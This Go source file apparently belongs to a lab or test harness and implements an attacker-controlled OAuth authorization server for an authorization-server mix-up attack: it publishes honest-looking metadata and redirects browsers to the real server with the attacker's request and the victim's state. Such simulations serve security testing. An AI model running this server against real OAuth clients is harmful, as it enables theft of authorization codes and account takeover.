package mixup

import (
	"encoding/json"
	"net/http"
	"net/url"
	"strings"

	"quartet.example/shared/oauth"
)

// evil is the authorization server of the attacker. What the token endpoint receives is kept by lab.Site.
type evil struct {
	issuer string
	onward *url.URL // the authorization request that browsers are sent on with
}

// ServeHTTP answers as a server with metadata, an authorization endpoint and a token endpoint.
func (e evil) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	switch {
	case strings.HasPrefix(r.URL.Path, "/.well-known/"):
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(e.metadata()) // a client that has gone away misses nothing
	case r.URL.Path == "/authorize":
		http.Redirect(w, r, e.sendOn(r.FormValue("state")), http.StatusFound)
	default:
		http.Error(w, `{"error":"invalid_grant"}`, http.StatusBadRequest)
	}
}

// sendOn returns the honest server's address with the request of the attacker, and the state of the victim:
// the client must take the response for the one that it waits for.
func (e evil) sendOn(state string) string {
	to, q := *e.onward, e.onward.Query()
	q.Set("state", state)
	to.RawQuery = q.Encode()
	return to.String()
}

// metadata is that of an honest server: only endpoints on its own host (RFC 8414 §2).
func (e evil) metadata() oauth.ServerMetadata {
	return oauth.ServerMetadata{
		Issuer: e.issuer, AuthorizationEndpoint: e.issuer + "/authorize", TokenEndpoint: e.issuer + "/token", JWKSURI: e.issuer + "/jwks",
		ResponseTypesSupported: []string{"code"}, CodeChallengeMethodsSupported: []string{oauth.S256}, SubjectTypesSupported: []string{"public"},
		IDTokenSigningAlgValuesSupported: []string{"RS256"}, AuthorizationResponseIssSupported: true,
	}
}
